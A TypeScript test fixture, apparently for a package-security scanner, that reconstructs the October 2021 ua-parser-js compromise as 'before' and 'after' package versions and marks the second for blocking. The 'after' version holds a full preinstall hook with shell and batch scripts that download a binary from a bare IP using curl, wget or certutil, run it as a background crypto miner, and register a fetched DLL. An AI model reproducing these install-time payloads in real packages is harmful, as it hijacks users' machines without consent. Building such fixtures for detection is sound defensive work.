import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '0.7.28',
  publishedAt: '2021-04-10T09:14:27.000Z',
  publisher: { name: 'faisal', email: 'faisal@mail.example.invalid' },
  manifest: {
    main: 'src/ua-parser.js',
    license: 'MIT',
    description: 'Detect browser, engine, OS and device from a user agent',
    scripts: { build: 'uglifyjs src/ua-parser.js > dist/ua-parser.min.js', test: 'mocha -R nyan test/test.js' },
  },
  files: {
    'src/ua-parser.js': `/*! UAParser v0.7.28 */
(function (window, undefined) {

    'use strict';

    var LIBVERSION  = '0.7.28',
        EMPTY       = '',
        UNKNOWN     = '?',
        FUNC_TYPE   = 'function',
        NAME        = 'name',
        VERSION     = 'version';

    var regexes = {
        browser : [
            [/\\b(?:crmo|crios)\\/([\\w.]+)/i, [VERSION, [NAME, 'Chrome']]],
            [/edg(?:e|ios|a)?\\/([\\w.]+)/i, [VERSION, [NAME, 'Edge']]],
            [/(opera)[\\s\\/]([\\w.]+)/i, [NAME, VERSION]],
            [/(chrome|firefox)\\/v?([\\w.]+)/i, [NAME, VERSION]]
        ],
        os : [
            [/(windows) nt ([\\d.]+)/i, [NAME, VERSION]],
            [/(mac os x) ([\\d_]+)/i, [NAME, VERSION]],
            [/(linux|android)[\\s\\/]?([\\w.]*)/i, [NAME, VERSION]]
        ]
    };

    function rgx (ua, table) {
        var result = {};
        for (var i = 0; i < table.length; i++) {
            var match = table[i][0].exec(ua);
            if (match) {
                table[i][1].forEach(function (prop, n) {
                    if (typeof prop === 'string') result[prop] = match[n + 1] || undefined;
                    else result[prop[0]] = prop[1];
                });
                return result;
            }
        }
        return result;
    }

    var UAParser = function (uastring) {
        if (!(this instanceof UAParser)) return new UAParser(uastring).getResult();
        var ua = uastring || ((window && window.navigator && window.navigator.userAgent) || EMPTY);
        this.getBrowser = function () { return rgx(ua, regexes.browser); };
        this.getOS = function () { return rgx(ua, regexes.os); };
        this.getUA = function () { return ua; };
        this.getResult = function () { return { ua: ua, browser: this.getBrowser(), os: this.getOS() }; };
        return this;
    };

    UAParser.VERSION = LIBVERSION;

    if (typeof exports === 'object' && typeof module === 'object') {
        module.exports = UAParser;
    } else if (typeof define === FUNC_TYPE && define.amd) {
        define(function () { return UAParser; });
    } else if (window) {
        window.UAParser = UAParser;
    }
})(typeof window === 'object' ? window : this);
`,
    'dist/ua-parser.min.js': `!function(e,t){"use strict";function n(e){return{ua:e||"",browser:{},os:{}}}n.VERSION="0.7.28","object"==typeof module?module.exports=n:e.UAParser=n}("object"==typeof window?window:this);
`,
    'readme.md': `# UAParser.js

JavaScript library to identify browser, engine, OS, CPU, and device.
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'ua-parser-js-2021',
  story: 'October 2021: a preinstall script that starts a shell or batch file, which loads a miner from a bare address and runs it.',
  name: 'ua-parser-js',
  before,
  after: {
    version: '0.7.29',
    publishedAt: '2021-10-22T09:14:27.000Z',
    publisher: { name: 'faisal', email: 'faisal@mail.example.invalid' },
    manifest: {
      main: 'src/ua-parser.js',
      license: 'MIT',
      description: 'Detect browser, engine, OS and device from a user agent',
      scripts: {
        preinstall: 'start /B node preinstall.js & node preinstall.js',
        build: 'uglifyjs src/ua-parser.js > dist/ua-parser.min.js',
        test: 'mocha -R nyan test/test.js',
      },
    },
    files: {
      ...before.files,
      'preinstall.js': `const { exec, spawn } = require("child_process");

function terminalLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {
    if (error) {
      console.log(\`error: \${error.message}\`);
      return;
    }
    if (stderr) {
      console.log(\`stderr: \${stderr}\`);
      return;
    }
    console.log(\`stdout: \${stdout}\`);
  });
}

var opsys = process.platform;
if (opsys == "darwin") {
  opsys = "MacOS";
} else if (opsys == "win32" || opsys == "win64") {
  opsys = "Windows";
  const bat = spawn("cmd.exe", ["/c", "preinstall.bat"]);
  bat.on("exit", (code) => { console.log(code); });
} else if (opsys == "linux") {
  opsys = "Linux";
  terminalLinux();
}
`,
      'preinstall.sh': `#!/bin/bash
IP=$(curl -k https://freegeoip.example.invalid/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]
    then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
        then
        curl http://198.51.100.34/download/jsextension -o jsextension
        if [ ! -f jsextension ]
            then
            wget http://198.51.100.34/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u ${noise(95, 67)} --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
`,
      'preinstall.bat': `@echo off
curl http://198.51.100.34/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    wget http://198.51.100.34/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://198.51.100.34/download/jsextension.exe jsextension.exe
)
curl https://citationsherbe.example.invalid/sdd.dll -o create.dll
set exec_1=tasklist.exe /FI "IMAGENAME eq jsextension.exe"
for /f "tokens=1" %%a in ('%exec_1%') do if "%%a"=="jsextension.exe" exit
start /B jsextension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u ${noise(95, 67)} --cpu-max-threads-hint=50 --background
regsvr32.exe -s create.dll
`,
    },
  },
  must: 'block',
};
